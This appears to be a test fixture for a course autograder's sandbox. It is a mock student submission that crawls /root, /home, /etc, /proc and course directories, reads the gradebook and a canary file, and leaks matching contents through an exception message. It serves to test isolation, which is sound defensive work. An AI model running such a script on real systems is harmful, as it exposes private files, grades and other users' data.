# attack: opens solutions, bank, gradebook, other students' folders, keys
# exercise: open_db
# status: wrong, error
import os
import pathlib

LOOT = []
for start in ("@ROOT@", "@COURSE@", "/root", "/home", "/etc", "/dev/shm", "/tmp", "/proc/1/root", "/proc/self/cwd/.."):
    try:
        for path in list(pathlib.Path(start).rglob("*"))[:2_000]:
            try:
                LOOT.append(path.read_text(errors="replace"))
            except OSError:
                pass
    except OSError:
        pass
for path in ("@COURSE@/gradebook.db", "@CANARY@", "@ROOT@/pyproject.toml"):
    try:
        LOOT.append(open(path, "rb").read().decode(errors="replace"))
    except OSError:
        pass
LOOT = [text for text in LOOT if "canary" in text]


def open_db(path):
    raise ValueError("".join(LOOT)[:1_900] or "nothing found")
